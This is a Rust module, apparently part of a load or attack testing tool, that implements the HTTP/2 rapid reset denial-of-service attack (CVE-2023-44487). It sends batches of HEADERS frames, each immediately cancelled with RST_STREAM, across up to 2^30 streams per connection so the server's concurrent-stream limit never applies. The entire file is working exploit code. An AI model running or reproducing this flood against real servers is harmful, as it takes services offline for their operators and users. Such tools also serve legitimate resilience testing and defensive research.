//! HTTP/2 rapid reset (CVE-2023-44487): requests that are cancelled as soon as they are sent, so
//! that the limit of concurrent streams never applies.

use std::io;
use std::time::Instant;

use serde_json::Value;
use tokio::io::BufReader;

use super::frames::{self, CANCEL, END_HEADERS, END_STREAM, HEADERS, RST_STREAM};
use super::header_flood::count_frames;
use super::{AttackArgs, Attacker, storm};
use crate::Outcome;

/// Number of requests in one write.
const BATCH: u32 = 100;
/// Maximum number of stream identifiers on one connection.
const MOST_STREAMS: u32 = 1 << 30;

pub(crate) async fn run(args: AttackArgs) -> Outcome<Value> {
    Ok(storm(&args, |attacker| async move {
        while attacker.goes_on() {
            let _ = reset(&attacker).await;
        }
    })
    .await)
}

async fn reset(attacker: &Attacker) -> io::Result<()> {
    let stream = attacker.connect().await?;
    let since = Instant::now();
    let (reading, mut writing) = stream.into_split();
    let block = frames::request("GET", "/key", &[("authorization", "Bearer sk-none")]);
    let writing = async move {
        attacker.send(&mut writing, &frames::opening(&[])).await?;
        let mut number = 0;
        while attacker.goes_on() && number + BATCH < MOST_STREAMS {
            let mut out = Vec::new();
            for _ in 0..BATCH {
                let id = 2 * number + 1;
                frames::frame(&mut out, HEADERS, END_HEADERS | END_STREAM, id, &block);
                frames::frame(&mut out, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
                number += 1;
            }
            attacker.send(&mut writing, &out).await?;
            attacker.sent(u64::from(BATCH));
        }
        Ok(())
    };
    let ended = tokio::select! {
        ended = writing => ended,
        ended = count_frames(attacker, BufReader::new(reading)) => ended,
    };
    attacker.ended(since, ended.is_err()).await;
    ended
}
